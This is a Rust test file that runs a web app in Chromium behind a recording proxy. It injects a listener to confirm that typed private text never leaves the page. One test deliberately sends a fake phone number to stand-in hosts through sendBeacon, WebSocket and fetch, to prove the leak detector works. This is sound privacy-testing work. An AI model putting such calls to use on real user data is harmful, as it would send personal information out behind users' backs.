//! Nothing is sent: every view and a whole round, behind a proxy that records what the browser sends.
//!
//! A listener in the page records what no proxy sees.
//!
//! Chromium only: its DevTools can run a script before those of a page.
use super::harness::{ANSWER, Page, skip};
use crate::fitting::quiz;
use serde_json::{Value, json};
use topup_guard_drive::{LANGS, ProxiedRequest, Proxy, Setup, VIEWS};

/// Private text that a person types: digits and words that are nowhere in our content.
const NUMBER: &str = "13807314629";
const WORDS: &str = "qzxv";

/// Records every call by which a page could send something, and all that it writes where others may read.
const LISTENER: &str = "(() => {
    const out = (window.out = []), left = (window.left = []);
    const note = (list, owner, name) => {
      const own = owner?.[name];
      if (!own) return;
      owner[name] = new Proxy(own, {
        apply(target, self, args) { list.push([name, ...args.map(String)]); return Reflect.apply(target, self, args); },
        construct(target, args) { list.push([name, ...args.map(String)]); return Reflect.construct(target, args); },
      });
    };
    note(out, Navigator.prototype, 'sendBeacon');
    for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection', 'WebSocket', 'WebTransport', 'EventSource', 'XMLHttpRequest',
                        'SharedWorker', 'Worker', 'BroadcastChannel', 'open', 'PresentationRequest']) note(out, window, name);
    note(out, window, 'postMessage');
    for (const name of ['debug', 'dir', 'error', 'info', 'log', 'table', 'trace', 'warn']) note(left, console, name);
    for (const name of ['pushState', 'replaceState']) note(left, History.prototype, name);
    note(left, window, 'fetch');
    note(left, Storage.prototype, 'setItem');
    new MutationObserver((all) => {
      for (const { addedNodes } of all) for (const node of addedNodes)
        if (node.matches?.('link:not([rel=icon], [rel=manifest], [rel=modulepreload], [rel=canonical], [rel=alternate])')) out.push(['link', node.outerHTML]);
    }).observe(document, { childList: true, subtree: true });
  })();";

/// Flags that keep Chrome itself from asking its maker about a page's fields and who is signed in.
const QUIET: [&str; 2] = ["--disable-features=AutofillServerCommunication", "--allow-browser-signin=false"];
/// Where Chrome asks for things of its own all the same, whatever page is open. What a page asks of these is
/// among its requests, which every test looks at: see [`Page::complaints`].
const MAKER: [&str; 4] = ["google.com", "googleapis.com", "gstatic.com", "gvt1.com"];

/// Returns all requests so far but Chrome's own to its maker.
fn asked(proxy: &Proxy) -> Vec<ProxiedRequest> {
    let maker = |one: &ProxiedRequest| {
        let target = one.line.split(' ').nth(1).unwrap_or_default();
        let host = target
            .split_once("://")
            .map_or(target, |(_, rest)| rest)
            .split([':', '/'])
            .next()
            .unwrap_or_default();
        MAKER.iter().any(|maker| host == *maker || host.ends_with(&format!(".{maker}")))
    };
    proxy.asked().into_iter().filter(|one| !maker(one)).collect()
}

/// Opens a phone whose every request goes through the proxy, with the listener in each page.
fn behind() -> Option<(Proxy, Page)> {
    let proxy = Proxy::start().expect("a port on loopback");
    let page = Page::alone(Setup::PHONE, proxy.flags().into_iter().chain(QUIET.map(str::to_owned)));
    if !page.kind.has_devtools() {
        skip("no script can be put before those of a page");
        return None;
    }
    proxy.know(&page.server.origin());
    let listener = json!({ "source": LISTENER });
    page.session.cdp("Page.addScriptToEvaluateOnNewDocument", listener).expect("the listener");
    Some((proxy, page))
}

/// Returns what the open page has sent, and all that it has left where others may read.
fn said(page: &Page) -> [Vec<String>; 2] {
    let said = page.session.run(
        "return [out, [...left, ['address', location.href], ['title', document.title], ['state', JSON.stringify(history.state)],
                       ['cookie', document.cookie]]].map((all) => all.map((one) => one.join(' ')));",
        &[],
    );
    let said = said.expect("the page has the listener");
    [0, 1].map(|at| {
        said[at].as_array().into_iter().flatten().filter_map(Value::as_str).map(str::to_owned).collect()
    })
}

/// Types private text wherever something can be typed.
fn type_everything(page: &Page) {
    for (view, field, text) in
        [("number", "#number", NUMBER), ("warnings", "#sought", WORDS), ("note", "textarea", WORDS)]
    {
        page.run(&format!("location.hash = '#/v1/{view}';"));
        page.wait(&format!("s.querySelector('[data-view={view}] {field}')"));
        page.write(field, text);
        page.wait(&format!("s.querySelector('{field}').value === '{text}'"));
    }
}

#[test]
#[ignore = "needs the built files: run cargo xtask test"]
fn no_view_and_no_round_sends_anything() {
    let Some((proxy, page)) = behind() else { return };
    let items: Vec<String> = quiz().items.into_iter().map(|item| item.id).collect();
    // Whatever holds one of these gives something away; picking a channel is a link that people pass on, see
    // docs/EMBEDDING.md.
    let secret = |text: &str| {
        [NUMBER, &NUMBER[3..], WORDS].iter().any(|typed| text.contains(typed))
            || items.iter().any(|id| text.contains(id.as_str()))
    };
    for lang in LANGS {
        page.view(lang, "home");
        page.controlled();
        let before = asked(&proxy).len();
        for view in VIEWS {
            page.run(&format!("location.hash = '#/v1/{view}';"));
            page.shown(view);
        }
        type_everything(&page);
        page.run("location.hash = '#/v1/quiz';");
        page.click("[data-do=measure], [data-do=begin]");
        while page.run("return !w.shadowRoot.querySelector('[data-do=again]');") == json!(true) {
            page.wait("s.querySelector('.asked')");
            assert_eq!(page.run(ANSWER), json!(true));
            page.click("[data-do=next]");
            page.wait("s.querySelector('.asked, [data-do=again]')");
        }
        let [out, left] = said(&page);
        page.run("localStorage.clear();");
        // The page's own script reads its screens as a document, which only that way of asking gives.
        let out: Vec<_> = out.into_iter().filter(|way| way != "XMLHttpRequest").collect();
        assert_eq!(out, [""; 0], "{lang}");
        // The log of answers is the one place that holds any.
        let kept = |line: &&String| {
            line.starts_with("setItem topup-guard:log-") || line.starts_with("setItem topup-guard:quiz")
        };
        let told: Vec<_> = left.iter().filter(|line| !kept(line) && secret(line)).collect();
        assert!(told.is_empty(), "{lang}: {told:?}");
        assert!(left.iter().any(|line| kept(&line)), "the answers were kept: {left:?}");
        // Once the page and what it keeps are there, a walk through all of it needs nothing more; a browser
        // looks for a newer worker when it likes.
        let later: Vec<_> = asked(&proxy).split_off(before).into_iter().map(|one| one.line).collect();
        let ours = |line: &&String| line.contains("/v1/assets/") || line.contains("/sw.js ");
        assert_eq!(later.iter().filter(|line| !ours(line)).count(), 0, "{lang}: {later:?}");
    }
    let asked = asked(&proxy);
    assert!(asked.iter().any(|one| one.line.contains(".wasm")), "the proxy saw the program: {asked:?}");
    for one in asked {
        assert!(one.passed, "to another origin: {}", one.line);
        // A browser that looks for a newer worker says which one it has.
        let head = one.head.to_ascii_lowercase();
        let head = head.replace(&format!("referer: {}/sw.js\r\n", page.server.origin()), "");
        assert!(!head.contains("referer:") && !head.contains("cookie:"), "{}\n{head}", one.line);
        assert!(one.body.is_empty() && !secret(&one.line) && !secret(&head), "{}\n{head}", one.line);
    }
}

/// Proves that the test above can fail.
#[test]
#[ignore = "needs the built files: run cargo xtask test"]
fn sent_data_would_be_seen() {
    let Some((proxy, page)) = behind() else { return };
    page.host("", "<topup-guard></topup-guard>");
    page.wait("w.dataset.state === 'ready'");
    assert_eq!(said(&page)[0], [""; 0]);
    page.run(&format!(
        "navigator.sendBeacon('http://a.example/beacon', '{NUMBER}');
         new RTCPeerConnection();
         const socket = new WebSocket('wss://b.example/socket');
         const refused = new Promise((done) => (socket.onerror = done));
         const link = document.createElement('link');
         link.rel = 'dns-prefetch';
         link.href = '//c.example';
         document.head.append(link);
         console.log('{NUMBER}');
         history.replaceState('{WORDS}', '');
         await fetch('http://d.example/{WORDS}').catch(() => {{}});
         await refused;",
    ));
    let [out, left] = said(&page);
    for what in [
        "sendBeacon http://a.example",
        "RTCPeerConnection",
        "WebSocket wss://b.example",
        "link <link rel=\"dns-prefetch\"",
    ] {
        assert!(out.iter().any(|line| line.starts_with(what)), "{what}: {out:?}");
    }
    for what in [
        format!("log {NUMBER}"),
        format!("replaceState {WORDS}"),
        format!("fetch http://d.example/{WORDS}"),
        format!("state \"{WORDS}\""),
    ] {
        assert!(left.iter().any(|line| line.starts_with(&what)), "{what}: {left:?}");
    }
    let asked = proxy.asked();
    for what in ["POST http://a.example/beacon", "CONNECT b.example:443", "GET http://d.example/"] {
        assert!(asked.iter().any(|one| one.line.starts_with(what) && !one.passed), "{what}: {asked:?}");
    }
    assert!(asked.iter().any(|one| one.body == NUMBER.as_bytes()));
    page.complaints();
}
